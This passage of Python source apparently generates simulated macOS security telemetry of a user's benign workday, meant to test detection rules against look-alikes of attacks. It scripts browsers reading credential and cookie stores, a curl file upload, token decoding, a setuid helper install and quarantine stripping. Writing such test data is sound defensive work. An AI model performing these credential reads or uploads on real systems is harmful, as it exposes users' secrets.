    vim = s.tool(s.zsh, ("/usr/bin/vim", "com.apple.vim"), ["vim", f"{HOME}/.zshrc"], new_group=True)
    s.read_file(vim, f"{HOME}/.zshrc")
    mac.open(vim, f"{HOME}/.zshrc", FWRITE | O_CREAT | O_TRUNC)
    mac.write(vim, f"{HOME}/.zshrc", 2210)
    mac.close(vim, f"{HOME}/.zshrc", modified=True)
    mac.exit(vim, 0)
    s.pause(5)
    # brew install jq: download, extract (tar keeps the archive's times), link; the bottle is ad hoc signed.
    brew = s.tool(s.zsh, BASH, ["/bin/bash", "/opt/homebrew/Library/Homebrew/brew.sh", "install", "jq"], new_group=True)
    cache = f"{HOME}/Library/Caches/Homebrew/downloads/{hex_id(s.rng, 16).lower()}--jq--1.7.1.arm64_sonoma.bottle.tar.gz"
    curl = s.tool(brew, CURL, ["curl", "--disable", "--location", "--output", cache, "https://ghcr.example.invalid/jq"])
    s.write_file(curl, cache, 40, 16384)
    mac.exit(curl, 0)
    tar = s.tool(brew, ("/usr/bin/tar", "com.apple.tar"), ["tar", "--extract", "--file", cache])
    jq_path = "/opt/homebrew/Cellar/jq/1.7.1/bin/jq"
    s.write_file(tar, jq_path, 6, 65536)
    old = mac.now - 90 * 86_400 * 10**9
    mac.utimes(tar, jq_path, old, old)
    mac.setmode(tar, jq_path, 0o555)
    mac.exit(tar, 0)
    mac.exit(brew, 0)
    jq = s.tool(s.zsh, (jq_path, "jq"), ["jq", ".version", "package.json"], new_group=True, kind="adhoc")
    mac.exit(jq, 0)
    # Everyday things that look like the attacks but are not.
    s.run(s.zsh, ("/usr/bin/base64", "com.apple.base64"), ["base64", "-d", "-i", "token.b64", "-o", "token.der"],
          new_group=True)
    s.run(s.zsh, ("/usr/bin/zip", "com.apple.zip"), ["zip", "-r", "build.zip", "build/"], new_group=True)
    s.run(s.zsh, CURL, ["curl", "-F", "file=@build.zip", "https://ci.example.invalid/artifacts"], new_group=True)
    s.run(s.zsh, ("/usr/bin/security", "com.apple.security"), ["security", "find-identity", "-v", "-p", "codesigning"],
          new_group=True)
    s.run(s.zsh, OSASCRIPT, ["osascript", "-e", 'display notification "Build finished" with title "make"'],
          new_group=True)
    s.run(s.zsh, ("/usr/bin/crontab", "com.apple.crontab"), ["crontab", "-l"], 1, new_group=True)
    sudo = s.tool(s.zsh, SUDO, ["sudo", "launchctl", "kickstart", "-k", "system/com.example.invalid.vpn"],
                  new_group=True, setuid=0)
    mac.authentication("touchid", True, {"touchid_mode": 0, "uid": ALICE}, instigator=sudo)
    mac.sudo(sudo, True, command="/bin/launchctl kickstart -k system/com.example.invalid.vpn", from_uid=ALICE,
             from_username="alice")
    s.run(sudo, ("/bin/launchctl", "com.apple.xpc.launchctl"), ["launchctl", "kickstart", "-k",
                                                               "system/com.example.invalid.vpn"])
    mac.exit(sudo, 0)
    # A build server runs a command over ssh without a terminal: sshd gives the shell socket pairs.
    sshd = _sshd(s)
    mac.openssh("login", sshd, "192.0.2.44", "alice", ALICE)
    session = mac.fork(sshd, new_session=True)
    session.user(ALICE, GID_STAFF)
    mac.exec(session, mac.image("/bin/zsh", "com.apple.zsh"), ["zsh", "-c", "uptime"], ["USER=alice", f"HOME={HOME}"],
             fds=SOCKETS[:3])
    mac.exit(session, 0)
    mac.openssh("logout", sshd, "192.0.2.44", "alice", ALICE)
    mac.exit(sshd, 0)
    s.pause(5)


def _xcode(s: Story) -> None:
    """Xcode builds Sketchpad, an ad hoc signed app, and runs it under its debugger; the app opens
    HID (a drawing tablet) and writes its log in a burst."""
    mac = s.mac
    s.step = "xcode"
    xcode = mac.running(mac.image("/Applications/Xcode.app/Contents/MacOS/Xcode", "com.apple.dt.Xcode", "APPLECOMPUTER",
                                  "appstore"), uid=ALICE, gid=GID_STAFF, asid=GUI_ASID, label="application.com.apple.dt.Xcode.1")
    clang = s.tool(xcode, ("/Applications/Xcode.app/Contents/Developer/Toolchains/XcodeDefault.xctoolchain/usr/bin/clang",
                           "com.apple.clang"), ["clang", "-c", "Sketchpad.m"], env=["PATH=/usr/bin:/bin"])
    s.write_file(clang, f"{HOME}/Library/Developer/Xcode/DerivedData/Sketchpad-bqkxwzfdhyaxcj/Build/Intermediates.noindex/"
                        "Sketchpad.o", 3, 32768)
    mac.exit(clang, 0)
    ld = s.tool(xcode, ("/Applications/Xcode.app/Contents/Developer/Toolchains/XcodeDefault.xctoolchain/usr/bin/ld",
                        "com.apple.ld"), ["ld", "-o", XCODE_PRODUCT], env=["PATH=/usr/bin:/bin"])
    s.write_file(ld, XCODE_PRODUCT, 4, 65536)
    mac.setmode(ld, XCODE_PRODUCT, 0o755)
    mac.exit(ld, 0)
    debugserver = s.tool(xcode, (DEBUGSERVER, "com.apple.debugserver"), ["debugserver", "--native-regs"],
                         env=["PATH=/usr/bin:/bin"], team="APPLECOMPUTER", kind="appstore")
    app = mac.spawn(debugserver, mac.image(XCODE_PRODUCT, "com.example.invalid.Sketchpad", None, "adhoc"),
                    [XCODE_PRODUCT], ["PATH=/usr/bin:/bin", "DYLD_INSERT_LIBRARIES=/usr/lib/libMainThreadChecker.dylib"])
    mac.get_task(debugserver, app, type=k.GET_TASK_FOR_PID)
    mac.trace(debugserver, app)
    mac.iokit_open(app, "IOHIDLibUserClient", 0, 0x1000_0c02, "IOService:/AppleARMPE/usb-drd0/WacomTablet")
    mac.iokit_open(app, "IOSurfaceRootUserClient", 0, 0x1000_0311, "IOService:/IOResources/IOSurfaceRoot")
    log = f"{HOME}/Library/Containers/com.example.invalid.Sketchpad/Data/Library/Logs/debug.log"
    mac.open(app, log, FWRITE | FAPPEND | O_CREAT)
    for _ in range(70):
        mac.write(app, log, 512)
    mac.close(app, log, modified=True)
    s.pause(10)
    mac.signal(debugserver, app, 9)
    mac.exit(app, signal=9)
    mac.exit(debugserver, 0)


def _browsers_and_apps(s: Story) -> None:
    """Browsers read their own secrets, signed updaters register their own agents, a package
    installs a daemon, signed apps open HID and the camera, alice takes screenshots."""
    mac = s.mac
    s.step = "browsers_and_apps"
    chrome_img = mac.image("/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", "com.google.Chrome",
                           "EQHXZ8M8AV", "devid")
    chrome = mac.launch_job("application.com.google.Chrome.3000051.3000058", chrome_img, uid=ALICE, gid=GID_STAFF,
                            asid=GUI_ASID)
    for name in ("Login Data", "Cookies", "Web Data"):
        s.read_file(chrome, f"{CHROME_PROFILE}/{name}")
    download = f"{DOWNLOADS}/dataset-2026-10.csv.crdownload"
    mac.open(chrome, download, FWRITE | O_CREAT)
    for _ in range(80):
        mac.write(chrome, download, 65536)
    mac.close(chrome, download, modified=True)
    s.read_file(chrome, KEYCHAIN)  # Chrome Safe Storage, through Security.framework
    firefox = mac.launch_job("application.org.mozilla.firefox.3000061.3000064", mac.image(
        "/Applications/Firefox.app/Contents/MacOS/firefox", "org.mozilla.firefox", "43AQ936H96", "devid"),
        uid=ALICE, gid=GID_STAFF, asid=GUI_ASID)
    for name in ("key4.db", "logins.json", "cookies.sqlite"):
        s.read_file(firefox, f"{FIREFOX_PROFILE}/{name}")
    networking = mac.launch_job("com.apple.WebKit.Networking", mac.image(
        "/System/Library/Frameworks/WebKit.framework/Versions/A/XPCServices/com.apple.WebKit.Networking.xpc/"
        "Contents/MacOS/com.apple.WebKit.Networking", "com.apple.WebKit.Networking"), uid=ALICE, gid=GID_STAFF,
        asid=GUI_ASID, responsible=s.safari)
    s.read_file(networking, SAFARI_COOKIES)
    s.pause(5)
    # Google's updater writes and registers its own launch agent; Microsoft's saves its plist atomically.
    updater_path = (f"{HOME}/Library/Application Support/Google/GoogleUpdater/132.0.6833.0/GoogleUpdater.app/"
                    "Contents/MacOS/GoogleUpdater")
    updater = mac.launch_job("com.google.GoogleUpdater.wake", mac.image(updater_path, "com.google.GoogleUpdater",
                                                                       "EQHXZ8M8AV", "devid"),
                             uid=ALICE, gid=GID_STAFF, asid=GUI_ASID)
    mac.dir(LAUNCH_AGENTS)
    google_agent = f"{LAUNCH_AGENTS}/com.google.GoogleUpdater.wake.plist"
    s.write_file(updater, google_agent, 1, 812)
    mac.btm_launch_item("add", "file://" + google_agent, executable_path=updater_path, instigator=updater)
    mau_path = "/Library/Application Support/Microsoft/MAU2.0/Microsoft AutoUpdate.app/Contents/MacOS/Microsoft AutoUpdate"
    mau = mac.launch_job("com.microsoft.autoupdate.fba", mac.image(mau_path, "com.microsoft.autoupdate2", "UBF8T346G9",
                                                                  "devid"), uid=ALICE, gid=GID_STAFF, asid=GUI_ASID)
    mau_agent = f"{LAUNCH_AGENTS}/com.microsoft.update.agent.plist"
    s.write_file(mau, mau_agent + ".tmp", 1, 640)
    mac.rename(mau, mau_agent + ".tmp", mau_agent)
    mac.btm_launch_item("add", "file://" + mau_agent, executable_path=mau_path, instigator=mau)
    # A vendor package installs a helper daemon (installd keeps the archive's times, sets a setuid helper).
    installd = mac.running(mac.image("/System/Library/PrivateFrameworks/PackageKit.framework/Resources/installd",
                                     "com.apple.installd"), label="com.apple.installd")
    daemon = "/Library/LaunchDaemons/com.example.invalid.vpnhelper.plist"
    helper = "/Library/PrivilegedHelperTools/com.example.invalid.vpnhelper"
    s.write_file(installd, daemon, 1, 980)
    old = mac.now - 40 * 86_400 * 10**9
    mac.utimes(installd, daemon, old, old)
    s.write_file(installd, helper, 5, 65536)
    mac.setmode(installd, helper, 0o4755)
    mac.btm_launch_item("add", "file://" + daemon, item_type=u.BTM_DAEMON, uid=0, executable_path=helper,
                        instigator=installd)
    s.pause(5)
    # Signed apps at devices: a mouse utility reads HID, a video call opens the camera and shares the screen.
    logi = mac.running(mac.image("/Applications/logioptionsplus.app/Contents/MacOS/logioptionsplus_agent",
                                 "com.logi.cp-dev-mgr", "QED4VVPZWA", "devid"), uid=ALICE, gid=GID_STAFF, asid=GUI_ASID)
    mac.iokit_open(logi, "IOHIDLibUserClient", 0, 0x1000_0d11, "IOService:/AppleARMPE/usb-drd1/MX Master 3S")
    zoom = mac.launch_job("application.us.zoom.xos.3000071.3000075", mac.image(
        "/Applications/zoom.us.app/Contents/MacOS/zoom.us", "us.zoom.xos", "BJ4HAAB9B3", "devid"),
        uid=ALICE, gid=GID_STAFF, asid=GUI_ASID)
    settings = mac.reporter("tccd")  # the consent prompt is tccd's own
    mac.tcc_modify("kTCCServiceCamera", "us.zoom.xos", identity_type=u.TCC_IDENTITY_BUNDLE_ID, update_type=u.TCC_CREATE,
                   right=u.TCC_ALLOWED, reason=u.TCC_USER_CONSENT, instigator=settings, responsible=zoom)
    mac.iokit_open(zoom, "AppleH13CamInUserClient", 0, 0x1000_0b21, "IOService:/AppleARMPE/arm-io@10F00000/AppleH13CamIn")
    mac.iokit_open(zoom, "IOSurfaceRootUserClient", 0, 0x1000_0311, "IOService:/IOResources/IOSurfaceRoot")
    # Screenshots alice takes (shift-command-4): the shutter sound plays, no -x.
    ui = mac.running(mac.image("/System/Library/CoreServices/screencaptureui.app/Contents/MacOS/screencaptureui",
                               "com.apple.screencaptureui"), uid=ALICE, gid=GID_STAFF, asid=GUI_ASID)
    for n in (1, 2):
        shot = s.tool(ui, ("/usr/sbin/screencapture", "com.apple.screencapture"),
                      ["/usr/sbin/screencapture", "-i", "-U", "-Jselection", f"{HOME}/Desktop/Screenshot {n}.png"],
                      env=[])
        s.write_file(shot, f"{HOME}/Desktop/Screenshot {n}.png", 2, 131072)
        mac.exit(shot, 0)
    # osqueryd's watchdog restarts its own worker.
    worker = mac.fork(s.osqueryd)
    mac.signal(s.osqueryd, worker, 15)
    mac.exit(worker, signal=15)
    s.pause(5)
    mac.exit(zoom, 0)
    mac.exit(chrome, 0)
    mac.exit(firefox, 0)


def _fires_by_design(s: Story) -> None:
    """Two acts the pack reports although they are benign (docs/packs.md lists them)."""
    mac = s.mac
    s.benign = True
    s.step = "trusted_tool_unquarantined"
    tool = f"{DOWNLOADS}/example-cli"
    mac.file(tool, uid=ALICE, gid=GID_STAFF)
    s.strip_quarantine(tool)
    s.pause(20)
    s.step = "helpdesk_screen_sharing"
    mac.authentication("token", True, {"pubkey_hash": hex_id(s.rng, 40), "token_id": "com.example.invalid.piv:"
                                       + hex_id(s.rng, 12), "kerberos_principal": None},
                       instigator=mac.reporter("screensharingd"))
    mac.screensharing("attach", 257, address=HELPDESK, auth_type="smartcard", auth_username="ituser",
                      session_username="alice", existing_session=True)
    s.expect("remote_screen_sharing_session", mac.reporter("screensharingd"), "screensharing_attach")
    s.pause(40)
    mac.screensharing("detach", 257, address=HELPDESK)
    s.benign = False


def workday(mac: Mac, events: int) -> Iterator[None]:
    """alice's ordinary day with every look-alike (see the module docstring)."""
    return _play(mac, events, (_developer, _xcode, _browsers_and_apps, _fires_by_design))
